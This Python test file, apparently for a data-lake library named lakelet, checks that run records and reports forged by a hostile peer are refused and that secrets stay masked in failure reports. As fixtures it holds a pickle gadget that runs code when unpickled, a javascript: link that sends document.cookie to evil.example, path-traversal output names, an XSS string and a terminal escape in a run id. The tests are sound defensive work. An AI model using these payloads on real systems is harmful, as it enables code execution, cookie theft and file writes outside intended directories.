"""A hostile or buggy peer sharing the remote: the run records and run reports it writes.

A peer with write access to the remote can bind any lake name, run records
(``stages/<stage>/<key>.json``) included, and write any ``runs/<id>.json``. Whatever it
writes, on file:// and on S3: no code runs here, nothing is written outside the lake
root, no name changes its content, the rest stays usable, and one line reports it.
"""

from __future__ import annotations

import json
import logging
import os
import pickle
from pathlib import Path
from typing import Any

import fsspec
import pytest

import lakelet

from .conftest import run_lakelet, snapshot

ON_FILE_AND_S3 = pytest.mark.parametrize("remote", ["file", "s3"], indirect=True)

CALLS: list[str] = []  # one entry per time a stage below ran


@lakelet.stage
def produce() -> dict[str, int]:
    CALLS.append("produce")
    return {"v": 1}


@lakelet.stage(src=produce)
def consume(src: dict[str, int]) -> dict[str, int]:
    CALLS.append("consume")
    return {"w": src["v"] + 1}


class _CreatesMarker:
    """Unpickling this creates the file ``path``: proof that a peer's bytes ran as code."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (str(self.path), "w"))


@pytest.fixture(autouse=True)
def _no_calls_yet() -> None:
    CALLS.clear()


def _genuine_record(tmp_path: Path, stage: lakelet.Stage) -> dict[str, Any]:
    """A run record as lakelet writes it, made in a scratch lake: the peer's starting point."""
    scratch = lakelet.init(tmp_path / "scratch")
    with lakelet.use(scratch):
        stage()
    CALLS.clear()
    name = next(f.name for f in scratch.ls("stages/") if f.name.endswith(".json"))
    record: dict[str, Any] = json.loads(scratch.file(name).read_bytes())
    scratch.close()
    return record


def _record_name(record: dict[str, Any]) -> str:
    return f"stages/{record['stage']}/{record['key'][:40]}.json"


def _bind(lake: lakelet.Lake, data: bytes, name: str) -> lakelet.File:
    """What a peer does: bind ``name`` to any bytes (its lakelet pushes them with the name)."""
    source = lake.root.parent / f"peer-{len(data)}-{hash(data) & 0xFFFF}"
    source.write_bytes(data)
    return lake.add(source, name)


def _bindings(lake: lakelet.Lake) -> dict[str, str]:
    return {f.name: f.digest for f in lake.ls()}


def _outside(tmp_path: Path) -> set[str]:
    """Every file under ``tmp_path`` but those of a lake root or the file:// remote: a file
    that appears here was written outside every lake."""
    roots = [p.parent for p in tmp_path.glob("*/lakelet.toml")] + [tmp_path / "remote"]
    return {
        p.relative_to(tmp_path).as_posix()
        for p in tmp_path.rglob("*")
        if p.is_file() and not any(p.is_relative_to(root) for root in roots)
    }


def _refusals(caplog: pytest.LogCaptureFixture) -> list[str]:
    return [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]


def _assert_usable_after(victim: lakelet.Lake, tmp_path: Path, caplog, forged: str) -> list[str]:
    """Call the stages on ``victim`` with a forged record of ``produce`` on the remote: the
    record is refused in one line, the stages run here once and are reused, nothing outside
    the lake changes, no name changes its content. Returns the warning lines."""
    before, elsewhere = _bindings(victim), _outside(tmp_path)
    with lakelet.use(victim), caplog.at_level(logging.WARNING):
        assert produce() == {"v": 1}  # the stage's own value: the record was refused, and it ran
        assert consume() == {"w": 2}  # and its downstream, reading the value this machine made
        assert produce() == {"v": 1} and CALLS == ["produce", "consume"]  # the rerun is reused
    assert _outside(tmp_path) == elsewhere
    after = _bindings(victim)
    assert {n: after[n] for n in before} == before  # no name changed its content
    refused = _refusals(caplog)
    assert len(refused) == 1 and "\n" not in refused[0] and forged in refused[0], refused
    return refused


@ON_FILE_AND_S3
def test_a_run_record_of_kind_pickle_is_never_unpickled(machine, tmp_path, caplog) -> None:
    record = _genuine_record(tmp_path, produce)
    marker = tmp_path / "pwned"
    peer, victim = machine("peer"), machine("victim")
    payload = f"stages/{record['stage']}/{record['key'][:40]}/output.pkl"
    stored = _bind(peer, pickle.dumps(_CreatesMarker(marker)), payload)
    record["returned"] = {"kind": "pickle", "names": [payload], "type": "python"}
    record["outputs"] = [{"name": payload, "digest": stored.digest}]
    _bind(peer, json.dumps(record).encode(), _record_name(record))

    refused = _assert_usable_after(victim, tmp_path, caplog, _record_name(record))
    assert not marker.exists()
    assert "pickle" in refused[0]


GARBAGE = {
    "not JSON": b"{not json",
    "not text": b"\xff\xfe\x00garbage",
    "a list": b"[]",
    "nested too deep": b"[" * 100_000 + b"]" * 100_000,
    "wrong types": json.dumps({"kind": "stage", "stage": 5, "key": None, "returned": "x"}).encode(),
    "empty": b"",
}


@ON_FILE_AND_S3
@pytest.mark.parametrize("garbage", GARBAGE.values(), ids=GARBAGE.keys())
def test_a_garbage_run_record_is_a_miss_not_a_failure(machine, tmp_path, caplog, garbage) -> None:
    record = _genuine_record(tmp_path, produce)
    peer, victim = machine("peer"), machine("victim")
    _bind(peer, garbage, _record_name(record))

    _assert_usable_after(victim, tmp_path, caplog, _record_name(record))
    graph = victim.lineage_graph()  # every run the lake knows: the garbage is left out
    assert {n["stage"] for n in graph.nodes.values() if n["kind"] == "stage"} == {
        produce.qualname,
        consume.qualname,
    }
    assert [f.name for f in victim.downstream(next(iter(_outputs_of(victim, produce))))] == list(
        _outputs_of(victim, consume)
    )


def _outputs_of(lake: lakelet.Lake, stage: lakelet.Stage) -> list[str]:
    return [f.name for f in lake.ls(f"stages/{stage.qualname}/") if "/output." in f.name]


def _forge_json_output(peer: lakelet.Lake, record: dict[str, Any]) -> None:
    """Point ``record`` at an output of the peer's choosing: ``{"v": 666}``."""
    name = f"stages/{record['stage']}/{record['key'][:40]}/output.json"
    stored = _bind(peer, b'{"v": 666}', name)
    record["returned"] = {"kind": "json", "names": [name], "type": "python"}
    record["outputs"] = [{"name": name, "digest": stored.digest}]


def _huge(record: dict[str, Any]) -> None:
    record["code_source"] = "#" * (17 << 20)  # past the 16 MiB a run record may have


def _javascript_link(record: dict[str, Any]) -> None:
    record["source"]["git"] = {"commit": "0" * 40, "remote": None, "path": "x.py", "dirty": False}
    record["source"]["git"]["url"] = "javascript:fetch('//evil.example/'+document.cookie)"


def _escaping_output(record: dict[str, Any]) -> None:
    record["returned"]["names"] = ["../../../../home/evil.pth"]
    record["outputs"].append({"name": "../../../../home/evil.pth", "digest": record["outputs"][0]["digest"]})


def _other_key(record: dict[str, Any]) -> None:
    record["parts"]["params"] = {"x": 1}  # its key is no longer the digest of its parts


def _naive_expiry(record: dict[str, Any]) -> None:
    record |= {"ttl_s": 60, "expires_at": "not a time"}


FORGERIES = {
    "huge": _huge,
    "javascript: link": _javascript_link,
    "escaping output name": _escaping_output,
    "parts of another key": _other_key,
    "unreadable expiry": _naive_expiry,
}


@ON_FILE_AND_S3
@pytest.mark.parametrize("forge", FORGERIES.values(), ids=FORGERIES.keys())
def test_a_forged_run_record_is_refused_and_the_key_stays_usable(machine, tmp_path, caplog, forge) -> None:
    record = _genuine_record(tmp_path, produce)
    peer, victim = machine("peer"), machine("victim")
    _forge_json_output(peer, record)  # on its own, a forged result the key would serve
    forge(record)
    _bind(peer, json.dumps(record).encode(), _record_name(record))

    _assert_usable_after(victim, tmp_path, caplog, _record_name(record))


@ON_FILE_AND_S3
def test_an_output_its_format_cannot_read_back_is_a_miss(machine, tmp_path, caplog) -> None:
    record = _genuine_record(tmp_path, produce)
    peer, victim = machine("peer"), machine("victim")
    name = f"stages/{record['stage']}/{record['key'][:40]}/output.json"
    stored = _bind(peer, b"{not json", name)  # the record is well formed, its output is not
    record["returned"] = {"kind": "json", "names": [name], "type": "python"}
    record["outputs"] = [{"name": name, "digest": stored.digest}]
    _bind(peer, json.dumps(record).encode(), _record_name(record))

    refused = _assert_usable_after(victim, tmp_path, caplog, _record_name(record))
    assert "cannot be loaded" in refused[0]


@ON_FILE_AND_S3
def test_lakelet_run_passes_over_a_forged_record_too(machine, tmp_path, caplog) -> None:
    record = _genuine_record(tmp_path, produce)
    marker = tmp_path / "pwned"
    peer, victim = machine("peer"), machine("victim")
    payload = f"stages/{record['stage']}/{record['key'][:40]}/output.pkl"
    stored = _bind(peer, pickle.dumps(_CreatesMarker(marker)), payload)
    record["returned"] = {"kind": "pickle", "names": [payload], "type": "python"}
    record["outputs"] = [{"name": payload, "digest": stored.digest}]
    _bind(peer, json.dumps(record).encode(), _record_name(record))

    with lakelet.use(victim), caplog.at_level(logging.WARNING):
        assert lakelet.run(produce, consume) == ({"v": 1}, {"w": 2})
        assert lakelet.run(produce, consume) == ({"v": 1}, {"w": 2})
    assert CALLS == ["produce", "consume"] and not marker.exists()
    assert len(_refusals(caplog)) == 1


@lakelet.stage(ttl="1h")
def fleeting() -> dict[str, int]:
    CALLS.append("fleeting")
    return {"f": 1}


@ON_FILE_AND_S3
def test_gc_leaves_a_refused_run_record_and_retires_the_rest(machine, tmp_path, caplog) -> None:
    from datetime import UTC, datetime, timedelta

    record = _genuine_record(tmp_path, produce)
    peer, victim = machine("peer"), machine("victim")
    _bind(peer, b"{not json", _record_name(record))
    with lakelet.use(victim):
        fleeting()
    fleeting_record = next(
        f.name for f in victim.ls(f"stages/{fleeting.qualname}/") if f.name.endswith(".json")
    )

    with caplog.at_level(logging.WARNING):
        report = victim.gc(now=datetime.now(UTC) + timedelta(hours=2))
    assert report.stage_runs == [fleeting_record]
    assert victim.exists(_record_name(record))  # gc acts on nothing a refused record says
    refused = _refusals(caplog)
    assert len(refused) == 1 and _record_name(record) in refused[0]


@ON_FILE_AND_S3
@pytest.mark.parametrize("run", ["stages/x/" + "0" * 40 + ".json", "raw/not-a-record.json"])
def test_the_lineage_of_a_file_whose_run_record_is_refused_is_one_error(
    machine, tmp_path, remote, run
) -> None:
    from lakelet.lake._add import bind_outputs

    peer, victim = machine("peer"), machine("victim")
    _bind(peer, b"{not json", run)
    made = tmp_path / "made.txt"
    made.write_text("made")
    # what a peer's log entry may say: this file was made by the run whose record is ``run``
    bind_outputs(peer.context, [("made.txt", made, False)], {"stage": "x", "run": run})
    _bind(peer, b"fine", "fine.txt")

    with pytest.raises(lakelet.CorruptRecordError) as error:
        victim.file("made.txt").lineage()
    assert "\n" not in str(error.value) and run in str(error.value)
    assert victim.lineage("fine.txt")[0]["kind"] == "add"  # the rest is usable
    out = run_lakelet("lineage", "made.txt", env={**remote.env, "LAKELET_HOME": str(victim.root)})
    lines = out.stderr.decode().splitlines()
    assert out.returncode == 1 and len(lines) == 1 and lines[0].startswith("error: ") and run in lines[0]


def test_a_run_record_knows_every_format() -> None:
    from lakelet.lake import _run_record
    from lakelet.stages._formats import FORMATS

    assert set(_run_record.FORMATS) == set(FORMATS)
    assert "pickle" not in _run_record.output_kinds(None)


# --- secrets in what a failing run leaves behind -----------------------------------------

SECRET = "tok-" + "7Hq2-never-in-a-report"


@lakelet.stage(secrets=["API_TOKEN"])
def leaky() -> None:
    token = os.environ["API_TOKEN"]
    try:
        raise KeyError(token)  # the cause, in the chain a traceback prints
    except KeyError as e:
        raise ConnectionError(f"login refused for {token!r}") from e


@lakelet.stage(src=leaky)
def after_leaky(src: None) -> int:
    return 1


def _remote_bytes(remote) -> list[bytes]:
    fs, root = fsspec.core.url_to_fs(remote.url, **remote.storage_options)
    return [fs.cat_file(path) for path in fs.find(root)]


def _local_bytes(root: Path) -> list[bytes]:
    return [p.read_bytes() for p in root.rglob("*") if p.is_file()]


@ON_FILE_AND_S3
@pytest.mark.parametrize("executor", [None, "processes"])
def test_a_failing_stage_leaves_its_secret_in_no_report_error_or_listing(
    machine, remote, tmp_path, monkeypatch, executor
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))  # the secrets' key
    lake = machine("a")
    lake.secrets.set("API_TOKEN", SECRET)
    lakelet.use(lake)

    with pytest.raises(lakelet.RunError) as error:
        lakelet.run(after_leaky, executor=executor, run_id="leaky-run")
    failure = error.value.failures[leaky.qualname]
    assert SECRET not in str(error.value) and "login refused for '***'" in str(error.value)
    assert SECRET not in failure and "KeyError: '***'" in failure  # the chain is masked too
    assert "ConnectionError: login refused for '***'" in failure
    report = json.dumps(lake.runs())
    assert SECRET not in report and "login refused for '***'" in report
    listed = run_lakelet("runs", "--json", env={**remote.env, "LAKELET_HOME": str(lake.root)})
    assert listed.returncode == 0 and "leaky-run" in listed.stdout.decode()
    assert SECRET.encode() not in listed.stdout + listed.stderr

    with pytest.raises(ConnectionError, match=SECRET):  # a plain call: the user's own exception
        leaky()
    stored = [*_local_bytes(lake.root), *_remote_bytes(remote)]
    assert stored and not [b for b in stored if SECRET.encode() in b]


# --- run reports -----------------------------------------------------------------------------


def _write_remote(remote, key: str, data: bytes) -> None:
    """What a peer with write access does: put any bytes under any key of the remote."""
    fs, root = fsspec.core.url_to_fs(remote.url, **remote.storage_options)
    fs.makedirs(f"{root}/runs", exist_ok=True)
    fs.pipe_file(f"{root}/{key}", data)


def _genuine_report(lake: lakelet.Lake) -> dict[str, Any]:
    with lakelet.use(lake):
        lakelet.run(produce, run_id="genuine")
    (report,) = lake.runs()
    return report


def _assert_reports_usable(victim: lakelet.Lake, remote, caplog, key: str) -> None:
    """The forged report under ``key`` is left out in one line; the genuine one is listed, by the
    API and the CLI; reading changed nothing in the lake."""
    before = snapshot(victim.root)
    with caplog.at_level(logging.WARNING):
        assert [r["run_id"] for r in victim.runs()] == ["genuine"]
    refused = _refusals(caplog)
    assert len(refused) == 1 and "\n" not in refused[0] and repr(key) in refused[0], refused
    env = {**remote.env, "LAKELET_HOME": str(victim.root)}
    for args in (["runs"], ["runs", "--json"]):
        out = run_lakelet(*args, env=env)
        warned = out.stderr.decode().splitlines()
        assert out.returncode == 0 and "genuine" in out.stdout.decode(), out.stderr
        assert len(warned) == 1 and repr(key) in warned[0]
    assert [r["run_id"] for r in json.loads(out.stdout)] == ["genuine"]
    assert snapshot(victim.root) == before


@ON_FILE_AND_S3
@pytest.mark.parametrize("garbage", GARBAGE.values(), ids=GARBAGE.keys())
def test_a_garbage_run_report_is_left_out_in_one_line(machine, remote, caplog, garbage) -> None:
    victim = machine("victim")
    _genuine_report(victim)
    _write_remote(remote, "runs/forged.json", garbage)
    _assert_reports_usable(victim, remote, caplog, "runs/forged.json")


def _another_runs_id(report: dict[str, Any]) -> None:
    report["run_id"] = "genuine"  # stored as runs/forged.json: it would list twice


def _huge_report(report: dict[str, Any]) -> None:
    report["stages"][produce.qualname]["why"] = "x" * (17 << 20)


def _not_a_time(report: dict[str, Any]) -> None:
    report["ended_at"] = "yesterday"


def _lists_disagree(report: dict[str, Any]) -> None:
    report["failed"] = ["never.ran"]


def _unknown_status(report: dict[str, Any]) -> None:
    report["stages"][produce.qualname]["status"] = "<img src=x onerror=alert(1)>"


REPORT_FORGERIES = {
    "another run's id": _another_runs_id,
    "huge": _huge_report,
    "not a time": _not_a_time,
    "lists that disagree with the stages": _lists_disagree,
    "unknown status": _unknown_status,
}


@ON_FILE_AND_S3
@pytest.mark.parametrize("forge", REPORT_FORGERIES.values(), ids=REPORT_FORGERIES.keys())
def test_a_forged_run_report_is_left_out_in_one_line(machine, remote, caplog, forge) -> None:
    victim = machine("victim")
    report = _genuine_report(victim) | {"run_id": "forged"}
    forge(report)
    _write_remote(remote, "runs/forged.json", json.dumps(report).encode())
    _assert_reports_usable(victim, remote, caplog, "runs/forged.json")


@ON_FILE_AND_S3
def test_a_run_id_with_a_terminal_escape_is_left_out(machine, remote, caplog) -> None:
    victim = machine("victim")
    run_id = "forged\x1b]0;owned\x07"
    report = _genuine_report(victim) | {"run_id": run_id}
    _write_remote(remote, f"runs/{run_id}.json", json.dumps(report).encode())
    _assert_reports_usable(victim, remote, caplog, f"runs/{run_id}.json")


@ON_FILE_AND_S3
@pytest.mark.parametrize("run_id", ["../../escaped", "a/b", "", "x\x00y"])
def test_a_run_id_that_is_not_one_segment_is_refused_before_anything_runs(machine, tmp_path, run_id) -> None:
    lake = machine("a")
    elsewhere = _outside(tmp_path)
    with lakelet.use(lake), pytest.raises(lakelet.InvalidNameError, match="run id"):
        lakelet.run(produce, run_id=run_id)
    assert CALLS == [] and lake.runs() == [] and _outside(tmp_path) == elsewhere
